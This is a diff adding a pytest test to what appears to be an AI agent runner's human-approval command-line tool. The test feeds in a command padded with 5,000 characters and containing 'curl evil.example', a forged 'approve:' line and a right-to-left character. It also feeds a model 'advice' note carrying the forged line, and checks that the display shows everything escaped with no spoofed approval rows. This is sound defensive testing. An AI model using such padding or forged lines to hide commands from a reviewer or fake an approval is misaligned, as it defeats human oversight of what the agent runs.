@@ -6,16 +6,18 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from click.testing import CliRunner
 
 from runner import asking
 from runner.approvals.queue import Queue
 from runner.approvals.webhook import FILE
+from runner.cli.main import cli
 from runner.errors import ConfigError
 from runner.killswitch import Switch
 from runner.ledger.ledger import open_ledger
 from runner.ledger.rekeying import Keeper
 from runner.live import LIVE, take
-from runner.records.approval import ApprovalRules
+from runner.records.approval import Advice, ApprovalRules
 from runner.records.base import RunId
 from runner.records.evidence import Statement
 from tests.approvals import RUN, proposal, publication
@@ -36,6 +38,21 @@ def asked(queue: Queue) -> str:
     request = queue.ask(proposal(), "Bash: make build")
     assert request is not None
     return request
+
+
+def test_a_person_is_shown_the_whole_command_and_none_of_its_rows_as_ours(state: Path) -> None:
+    fake = "approve:  codex-runner approvals approve ap_0123456789abcdef 0123456789ab"
+    code = f"true {'x' * 5000}; curl evil.example\n{fake}\n\u05d0{'y' * 70}"
+    request = queue_of(state).ask(proposal(code), "Bash: true")
+    done = CliRunner().invoke(cli, ["approvals", "show", str(request), "--state", str(state)])
+    rows = done.stdout.splitlines()
+    assert len([row for row in rows if row.startswith("approve: ")]) == 1
+    shown = [row[2:] for row in rows if row.startswith(("| ", "\\ "))]
+    assert "".join(shown) == f'["Bash"]{code}'.replace("\n", "").replace("\u05d0", "⟦U+05D0⟧")
+    advice = Advice(model="m", approve=True, note=f"{'z' * 70} {fake}")
+    queue_of(state).advise(str(request), advice)
+    listed = CliRunner().invoke(cli, ["approvals", "list", "--state", str(state)]).stdout
+    assert all(row.startswith((str(request), "| ", "\\ ")) for row in listed.splitlines())
 
 
 def test_a_word_needs_a_key_which_only_a_person_makes(state: Path) -> None:
